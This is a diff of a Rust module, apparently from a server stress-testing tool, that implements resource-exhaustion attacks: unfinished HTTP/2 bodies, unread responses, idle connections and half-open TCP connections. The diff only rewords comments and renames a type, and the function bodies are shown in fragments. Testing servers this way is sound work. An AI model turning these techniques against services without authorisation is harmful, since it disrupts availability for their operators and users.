@@ -1,18 +1,18 @@
-//! The attacks of one identity, each a function of how much of it there is. All keep the protocol's form; those that do
-//! not are in [`super::flood`].
+//! The attacks of one identity, each a function with its amount as an argument. All use valid frames; the others are in
+//! [`super::flood`].
 
 use std::{collections::BTreeMap, net::SocketAddr, sync::Arc, time::Duration};
 
 use anyhow::Result;
 use tokio::{net::TcpStream, task::JoinSet, time::timeout};
 
-use super::{Http2Peer, Manners, frame::MAX_PAYLOAD};
+use super::{Http2Peer, PeerBehaviour, frame::MAX_PAYLOAD};
 use crate::raw::{Connection, Dialer};
 
-/// How long a server may leave an attacker without leave to send before the attacker takes what it has.
+/// How long an attacker waits for a window from the server before it goes on without.
 const STALL: Duration = Duration::from_secs(1);
 
-/// What an attack holds open. Dropping it closes it all.
+/// The connections that an attack holds open. Dropping it closes them.
 #[derive(Debug, Default)]
 pub struct Held {
     /// HTTP/2 connections.
@@ -21,18 +21,18 @@ pub struct Held {
     pub http1: Vec<Connection>,
     /// Connections without a handshake.
     pub tcp: Vec<TcpStream>,
-    /// Bytes of bodies that the server let in.
+    /// Bytes of bodies that the server accepted.
     pub sent: u64,
 }
 
-/// What came of many requests.
+/// The results of many requests.
 #[derive(Clone, Debug, Default, PartialEq, Eq)]
 pub struct Tally {
     /// How many answers had each status.
     pub statuses: BTreeMap<u16, u64>,
     /// Requests without an answer, connections that were refused among them.
     pub unanswered: u64,
-    /// Answers that said when to come again.
+    /// Answers with `Retry-After`.
     pub retry_after: u64,
 }
 
@@ -51,11 +51,11 @@ impl Tally {
     }
 }
 
-/// Sends bodies of `bytes` bytes, all but their last byte, on `streams` streams of each of `connections` connections. As
-/// much is sent as the server lets in. `dialer` must offer `h2`.
+/// Sends bodies of `bytes` bytes without their last byte on `streams` streams of each of `connections` connections, as far as
+/// the windows of the server permit. `dialer` must offer `h2`.
 ///
 /// # Errors
-/// Where a connection does not come to be.
+/// If a connection does not come to be.
 pub async fn unfinished_bodies(
     dialer: &Dialer,
     target: &str,
@@ -66,7 +66,7 @@ pub async fn unfinished_bodies(
     let mut attackers = JoinSet::new();
     for _ in 0..connections {
         let connection = dialer.connect_with(&connector).await?;
-        let peer = Http2Peer::over(connection, Manners::GOOD).await?;
+        let peer = Http2Peer::over(connection, PeerBehaviour::GOOD).await?;
         attackers.spawn(fill_streams(peer, target.to_owned(), streams, bytes.saturating_sub(1)));
     }
     let mut held = Held::default();
@@ -89,7 +89,7 @@ async fn fill_streams(
     for _ in 0..streams {
         match peer.open(&target).await {
             Ok(stream) => open.push((stream, bytes)),
-            // The server does not want it.
+            // The server refuses it.
             Err(_) => return (peer, sent),
         }
     }
@@ -115,10 +115,11 @@ async fn fill_streams(
     }
 }
 
-/// Asks on `streams` streams of each of `connections` HTTP/2 connections, and takes no answer. `dialer` must offer `h2`.
+/// Sends requests on `streams` streams of each of `connections` HTTP/2 connections, and accepts no answer. `dialer` must offer
+/// `h2`.
 ///
 /// # Errors
-/// Where a connection does not come to be.
+/// If a connection does not come to be.
 pub async fn untaken_answers(
     dialer: &Dialer,
     (target, body): (&str, &[u8]),
@@ -128,7 +129,7 @@ pub async fn untaken_answers(
     let mut held = Held::default();
     for _ in 0..connections {
         let connection = dialer.connect_with(&connector).await?;
-        let mut peer = Http2Peer::over(connection, Manners::TAKES_NOTHING).await?;
+        let mut peer = Http2Peer::over(connection, PeerBehaviour::TAKES_NOTHING).await?;
         for _ in 0..streams {
             if peer.ask(target, body).await.is_err() {
                 break;
@@ -142,7 +143,7 @@ pub async fn untaken_answers(
 /// Sends `requests` requests, one after the other, over each of `connections` HTTP/1.1 connections, and reads nothing.
 ///
 /// # Errors
-/// Where a connection does not come to be.
+/// If a connection does not come to be.
 pub async fn unread_answers(
     dialer: &Dialer,
     request: &[u8],
@@ -164,26 +165,26 @@ pub async fn unread_answers(
     Ok(held)
 }
 
-/// Opens `count` connections, has one answer over each, and leaves them open. What is refused is not tried again.
+/// Opens `count` connections, reads one answer over each, and leaves them open. Refused ones are not tried again.
 ///
 /// # Errors
-/// Where the TLS side cannot be configured.
+/// If the TLS side cannot be configured.
 pub async fn idle_connections(dialer: &Dialer, request: &[u8], count: usize) -> Result<Held> {
     let connector = dialer.connector()?;
     let mut held = Held::default();
     for _ in 0..count {
         let Ok(mut connection) = dialer.connect_with(&connector).await else { continue };
-        // Whatever the answer is, the connection is kept for as long as the server lets it live.
+        // The connection is kept until the server ends it, whatever the answer is.
         connection.exchange(request).await.ok();
         held.http1.push(connection);
     }
     Ok(held)
 }
 
-/// Opens `count` TCP connections and says nothing.
+/// Opens `count` TCP connections and sends nothing.
 ///
 /// # Errors
-/// Where the kernel has none left.
+/// If the kernel refuses a connection.
 pub async fn half_open(address: SocketAddr, count: usize) -> Result<Held> {
     let mut held = Held::default();
     for _ in 0..count {
@@ -196,7 +197,7 @@ pub async fn half_open(address: SocketAddr, count: usize) -> Result<Held> {
 /// that ends is opened again.
 ///
 /// # Errors
-/// Where the TLS side cannot be configured.
+/// If the TLS side cannot be configured.
 pub async fn requests(
     dialer: &Arc<Dialer>,
     request: &[u8],
